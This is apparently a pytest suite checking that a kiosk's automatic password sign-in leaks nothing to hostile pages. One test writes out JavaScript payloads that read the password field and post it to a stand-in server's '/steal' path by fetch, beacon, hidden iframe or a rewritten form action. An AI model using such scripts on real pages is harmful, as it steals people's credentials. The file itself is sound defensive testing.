"""What a hostile page gets of a password on the real engine: nothing, and nobody else does either.

Needs a screen: the web engine draws on one, or X11 keeps who owns what.
"""

import pytest
from PySide6.QtCore import QPoint, QUrl
from pytestqt.qtbot import QtBot

from kiosk.session.model.site import PageState, Part, Press, Seen
from kiosk.ui.xchart import site_fill
from tests.support.hostile_pages import BELOW, HIDDEN, NOT_TAKEN, SEEN, THERE, UNSAFE, beside
from tests.support.sign_in_pages import CLASSIC, EMAIL, IN, PASSWORD, Page, WebSite, to
from tests.support.site_on_show import BOTH, Shown, on_show, shown, web

__all__ = ["shown", "web"]
Web = tuple[WebSite, WebSite]
SECRET = {Part.PASSWORD: PASSWORD}


def opened(shown: Shown, web: Web, page: str) -> Seen:
    """That page at the site's start, with a working site behind it."""
    home, there = web
    page = page.replace(THERE, there.url().rstrip("/"))
    home.routes |= {"/": page, "/session": to("/home"), "/home": IN, "/inner": CLASSIC}
    there.routes |= {"/": CLASSIC, "/steal": IN, "/session": IN}
    return shown.start()


def assert_nobody_heard(shown: Shown, web: Web) -> None:
    """Neither server has it, and it stands in no field."""
    shown.bot.wait(250)
    assert [each.heard() for each in web] == [[], []]
    assert PASSWORD not in str(shown.fields())


def asked_anyway(seen: Seen) -> Seen:
    """As if the page had been seen to ask for a password."""
    return Seen(PageState.ASKS_PASSWORD, seen.load, both=True)


AT_ONCE = (
    "another's action",
    "a button's own action",
    "another's base",
    "swapped as the e-mail is given",
    "into an address",
    "into an address by the button",
)
"""The page's own script does not see the password either."""
BY_THE_FENCE = (
    "sent by the page as it is pressed",
    "into an address behind our back",
    "into an address by a script",
)
"""Nothing else could know."""


def watch_fields(shown: Shown) -> None:
    """From now on the page notes what is put into its fields, and what is pressed."""
    shown.run(
        "window.told = []; addEventListener('click', () => told.push('press'), true);"
        "addEventListener('input', e => told.push(`${e.target.type}=${e.target.value}`), true); 1"
    )


def told(shown: Shown) -> str:
    """What it noted."""
    return str(shown.run("told.join(' ')"))


@pytest.mark.parametrize("page", UNSAFE.values(), ids=UNSAFE.keys())
def test_what_would_go_astray_is_not_sent(shown: Shown, web: Web, page: str) -> None:
    seen = opened(shown, web, page)
    assert seen.state is PageState.ASKS_PASSWORD
    watch_fields(shown)
    assert shown.fill(seen) is Press.UNSAFE
    assert_nobody_heard(shown, web)
    if page in [UNSAFE[name] for name in AT_ONCE]:
        assert PASSWORD not in told(shown)
    if page == UNSAFE["swapped soon after"]:
        assert "press" not in told(shown)
    if page not in [UNSAFE[name] for name in BY_THE_FENCE]:
        # It was not even tried.
        assert shown.look() == seen


@pytest.mark.parametrize("has_keyboard", [True, False], ids=["keyboard", "behind"])
@pytest.mark.parametrize("page", NOT_TAKEN.values(), ids=NOT_TAKEN.keys())
def test_what_turns_under_our_hands_is_left_to_a_person(
    shown: Shown, web: Web, page: str, has_keyboard: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(site_fill, "PRESS_TRIES", 6)
    seen = opened(shown, web, page)
    assert seen.state is PageState.ASKS_PASSWORD
    watch_fields(shown)
    if has_keyboard:
        shown.click(QPoint(600, 500))
        shown.bot.waitUntil(lambda: shown.run("document.hasFocus()") is True, timeout=10_000)
    assert shown.fill(seen) is Press.NOT_TAKEN
    assert f"text={PASSWORD}" not in told(shown)
    assert_nobody_heard(shown, web)


@pytest.mark.parametrize("field", HIDDEN.values(), ids=HIDDEN.keys())
def test_a_field_that_nobody_sees_gets_nothing(shown: Shown, web: Web, field: str) -> None:
    seen = opened(shown, web, beside(field))
    assert seen.state is PageState.ASKS_EMAIL
    assert shown.fill(seen) is Press.GONE
    assert shown.fill(seen, SECRET) is Press.GONE
    assert_nobody_heard(shown, web)


@pytest.mark.parametrize("how", ["not visible", "beside the page", "inert"])
def test_what_lies_below_the_fold_is_not_seen_either(shown: Shown, web: Web, how: str) -> None:
    """Nothing can be tried there without turning the page."""
    assert opened(shown, web, BELOW + beside(HIDDEN[how])).state is PageState.ASKS_EMAIL


@pytest.mark.parametrize(("page", "state"), SEEN.values(), ids=SEEN.keys())
def test_what_is_not_our_sign_in_gets_nothing(
    shown: Shown, web: Web, page: str, state: PageState
) -> None:
    seen = opened(shown, web, page)
    assert seen.state is state
    for typed in (BOTH, SECRET):
        assert shown.fill(asked_anyway(seen), typed) is Press.GONE
    assert_nobody_heard(shown, web)


def test_a_redirect_to_somewhere_else_is_told(shown: Shown, web: Web) -> None:
    home, there = web
    opened(shown, web, CLASSIC)
    home.routes |= {"/": to(there.url())}
    seen = shown.start()
    assert seen.state is PageState.ELSEWHERE
    assert shown.fill(asked_anyway(seen)) is Press.GONE
    assert there.asked == []
    assert_nobody_heard(shown, web)


def test_a_redirect_after_the_press_takes_nothing_with_it(shown: Shown, web: Web) -> None:
    """The old form stays alive with what was typed: it is emptied."""
    home, there = web
    seen = opened(shown, web, CLASSIC)
    home.routes |= {"/session": lambda _: to(there.url("/steal"))}
    assert shown.fill(seen) is Press.PRESSED
    assert shown.follow(seen).state is PageState.ELSEWHERE
    assert there.asked == []
    assert home.heard() == ["POST /session"]
    assert PASSWORD not in str(shown.fields())


def test_a_redirect_that_keeps_the_body_is_stopped(shown: Shown, web: Web) -> None:
    home, there = web
    seen = opened(shown, web, CLASSIC)
    home.routes |= {"/session": lambda _: kept(there.url("/steal"))}
    shown.fill(seen)
    assert shown.follow(seen).state is PageState.ELSEWHERE
    assert there.asked == []


def kept(address: str) -> Page:
    page = to(address)
    page.status = 307
    return page


@pytest.mark.parametrize("how", ["fetch", "beacon", "frame", "form"])
def test_a_script_sends_it_nowhere_else(shown: Shown, web: Web, how: str) -> None:
    """It reads what is filled in; the fence is what it does not get over."""
    there = web[1]
    sends = {
        "fetch": f"fetch('{THERE}/steal', {{method: 'POST', mode: 'no-cors', body: v}})",
        "beacon": f"navigator.sendBeacon('{THERE}/steal', v)",
        "frame": "document.body.insertAdjacentHTML('beforeend', `<iframe name=aside></iframe>"
        f"<form id=out method=post target=aside action='{THERE}/steal'><input name=v value='x'>"
        "</form>`); out.v.value = v; out.submit()",
        "form": f"const f = document.forms[0]; f.action = '{THERE}/steal'; f.submit()",
    }
    read = "const v = document.forms[0].password.value"
    script = f"document.forms[0].onsubmit = () => {{ {read}; {sends[how]} }}"
    seen = opened(shown, web, f"{CLASSIC}<script>{script}</script>")
    shown.fill(seen)
    shown.follow(seen)
    assert there.asked == []
    assert PASSWORD not in str(shown.fields())


def test_nothing_is_given_in_clear_but_to_this_computer(web: Web, qtbot: QtBot) -> None:
    """``site.localhost`` leads here too, but that is the resolver's word."""
    home = web[0]
    home.routes |= {"/": CLASSIC}
    for page in on_show(home, qtbot, host="site.localhost"):
        seen = page.start()
        assert (seen.state, seen.status) == (PageState.ELSEWHERE, 200)
        assert page.fill(asked_anyway(seen)) is Press.GONE
    assert home.heard() == []


def test_our_own_e_mail_may_stand_there_already(shown: Shown, web: Web) -> None:
    home = web[0]
    opened(
        shown,
        web,
        "<form method=post action=/step><label>E-mail <input name=email type=email>"
        "</label><button>Next</button></form>",
    )
    home.routes["/step"] = (
        f"<form method=post action=/session><input type=email value='{EMAIL.title()}' readonly>"
        "<input type=password name=password><button>Sign in</button></form>"
    )
    assert shown.enter({Part.EMAIL: EMAIL}).state is PageState.ASKS_PASSWORD
    assert shown.enter(SECRET).state is PageState.IN


def test_the_page_sees_nothing_of_the_script(shown: Shown, web: Web) -> None:
    opened(shown, web, CLASSIC)
    assert shown.run("typeof kioskSignIn") == "undefined"
    assert shown.in_our_world("typeof kioskSignIn") == "object"
    shown.site.page.setUrl(QUrl(web[0].url("/home")))
